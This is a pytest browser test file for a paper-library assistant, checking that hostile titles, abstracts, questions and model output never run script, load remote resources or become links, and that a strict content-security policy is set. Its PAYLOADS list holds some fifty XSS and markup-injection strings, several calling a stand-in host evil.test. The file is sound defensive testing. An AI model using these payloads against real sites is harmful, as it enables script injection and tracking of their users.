"""Hostile titles, abstracts and model output in a real browser: no script runs, no request leaves, nothing is a link."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from browser import ask, served, to_tab
from conftest import write_papers

from assistant import Assistant, Settings
from eval.fake_server import serve as serve_model

pytestmark = pytest.mark.slow
PAYLOADS = [
    "<script>window.owned=1</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "</script><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<img src=http://evil.test/pixel.png>",
    "<svg onload=window.owned=1>",
    "<svg><script>window.owned=1</script></svg>",
    "<svg><animate onbegin=window.owned=1 attributeName=x dur=1s>",
    "<body onload=window.owned=1>",
    "<iframe src=javascript:window.owned=1></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=javascript:window.owned=1></object>",
    "<embed src=http://evil.test/x.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import url(http://evil.test/x.css);</style>",
    "<style>body{background:url(http://evil.test/x)}</style>",
    "<div style=\"background:url('http://evil.test/y')\">d</div>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<form action=http://evil.test/><button autofocus>go</button></form>",
    "<input autofocus onfocus=window.owned=1>",
    "<details open ontoggle=window.owned=1>d</details>",
    "<video><source onerror=window.owned=1></video>",
    "<audio src=x onerror=window.owned=1>",
    "<marquee onstart=window.owned=1>m</marquee>",
    "<math><a xlink:href=javascript:window.owned=1>m</a></math>",
    "<a href=javascript:window.owned=1>a</a>",
    "<a href=data:text/html,<script>window.owned=1</script>>a</a>",
    "[a](javascript:window.owned=1)",
    "![a](http://evil.test/image.png)",
    "![a][ref] [ref]: http://evil.test/reference.png",
    "[a]: http://evil.test/x [a]",
    "<http://evil.test/auto>",
    "http://evil.test/plain",
    '" onmouseover="window.owned=1" x="',
    "' onfocus='window.owned=1' autofocus='",
    "`${window.owned=1}`",
    "${window.owned=1}",
    "{{window.owned=1}}",
    "{{#each value}}<img src=x onerror=window.owned=1>{{/each}}",
    "@children",
    "{{{value}}}",
    "&lt;script&gt;window.owned=1&lt;/script&gt;",
    "\\u003cscript\\u003e",
    "\u202e\u2066reversed\u2069",
    "\u200bzero\u200dwidth",
    "\U000e0041tag\U000e007f",
    "<!--><script>window.owned=1</script>-->",
    "<![CDATA[<script>window.owned=1</script>]]>",
    "<template><img src=x onerror=window.owned=1></template>",
    "<textarea></textarea><img src=x onerror=window.owned=1>",
    "<x onclick=window.owned=1 tabindex=1 autofocus onfocus=window.owned=1>",
]
OpenPage = Callable[..., Any]


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library in which every paper attacks, in each of its fields."""
    folder = tmp_path_factory.mktemp("hostile")
    # A page of the site keeps what looks like markup, which other formats lose when they are read.
    site = "\n\n".join(
        ["Daily Papers", "by AK and the research community"]
        + [
            f"Weather {i} {payload}\n\nHostile weather number {i} is rare. It says {payload} on every mast."
            for i, payload in enumerate(PAYLOADS)
        ]
    )
    (folder / "site.txt").write_text(site, encoding="utf-8")
    records: list[dict[str, object]] = [
        {
            "title": f"Rain on mast {i}",
            "abstract": f"Rain of kind {i} falls on the mast of harbour {i * 7}.",
            "authors": [f"{payload} Author"],
            "year": 2000 + i % 20,
            "url": "javascript:window.owned=1",
            "doi": f"10.1000/{i}{payload}",
            "keywords": [payload],
            "citekey": payload,
            "zotero": f"zotero://select/{payload}",
        }
        for i, payload in enumerate(PAYLOADS)
    ]
    with Assistant(Settings(home=folder / "home", llm="quotes")) as assistant:
        report = assistant.add([folder / "site.txt", write_papers(folder / "records.jsonl", records)])
        assert report.papers == 2 * len(PAYLOADS)
        assert sum(payload in paper.abstract for paper in assistant.papers() for payload in PAYLOADS) > 40
    return folder / "home"


def unharmed(page: Any) -> None:
    """Nothing ran, and no element came from the papers; requests and dialogs fail the test by themselves."""
    assert page.evaluate("window.owned") is None
    foreign = "img, script:not([nonce]), iframe, object, embed, base, form, math, marquee, template, video, audio, link[href*='evil']"
    assert (
        page.evaluate(
            f"[...document.querySelectorAll('#tabs')].flatMap(t => [...t.querySelectorAll(`{foreign}`)]).length"
        )
        == 0
    )
    links = page.evaluate("[...document.querySelectorAll('#tabs a')].map(a => a.href)")
    assert all(href.startswith(("https://arxiv.org/abs/", "https://doi.org/10.")) for href in links)
    handlers = "[...document.querySelectorAll('#tabs *')].flatMap(e => [...e.attributes]).filter(a => a.name.startsWith('on')).length"
    assert page.evaluate(handlers) == 0


@pytest.fixture
def hostile_page(hostile_home: Path, open_page: OpenPage) -> Iterator[Any]:
    with served(hostile_home) as url:
        yield open_page(url)


def test_hostile_papers(hostile_page: Any) -> None:
    assert len(PAYLOADS) >= 40
    for i in range(0, len(PAYLOADS), 9):
        ask(hostile_page, f"What does hostile weather number {i} say on every mast?")
        hostile_page.locator("#live .chip[data-n]").first.hover()
        hostile_page.locator("#live .chip[data-n]").first.click()
        hostile_page.evaluate(
            "document.querySelectorAll('#panel details').forEach(details => { details.open = true; })"
        )
        unharmed(hostile_page)
    to_tab(hostile_page, "Library")
    hostile_page.wait_for_selector("svg.map circle")
    for dot in hostile_page.locator("svg.map circle").all()[::4]:
        dot.dispatch_event("mouseover", {"bubbles": True})
    hostile_page.locator("#papers input[data-paper]").first.check()
    hostile_page.click("#papers [data-remove]")
    hostile_page.click("dialog.confirm [data-keep]")
    unharmed(hostile_page)


def test_hostile_question(hostile_page: Any) -> None:
    for payload in PAYLOADS[::6]:
        hostile_page.fill("#question textarea", f"Is it true that {payload}")
        hostile_page.keyboard.press("Enter")
        hostile_page.wait_for_selector("#live .turn.done")
        unharmed(hostile_page)
    hostile_page.wait_for_selector("#history summary")
    hostile_page.click("#history summary")
    unharmed(hostile_page)


def test_hostile_model_output(hostile_home: Path, open_page: OpenPage) -> None:
    lines = [f"Hostile weather number {i} is rare. {payload} [1]" for i, payload in enumerate(PAYLOADS)]
    with serve_model("\n".join(lines)) as model, served(hostile_home, llm=model.spec) as url:
        page = open_page(url)
        ask(page, "What does hostile weather number 3 say?")
        for details in page.locator("#live .removed").all():
            details.evaluate("element => element.open = true")
        assert page.locator("#live .sentence, #live .removed li").count() > 0
        unharmed(page)


def test_the_policy_is_a_second_wall(hostile_page: Any) -> None:
    """Markup that slipped through all escaping would stay dead: no inline script, and nothing from elsewhere."""
    policy = hostile_page.evaluate("fetch('/').then(reply => reply.headers.get('content-security-policy'))")
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert "'nonce-" in rules["script-src"]
    assert "'unsafe-inline'" not in rules["script-src"]
    assert rules["connect-src"] == rules["form-action"] == "'self'"
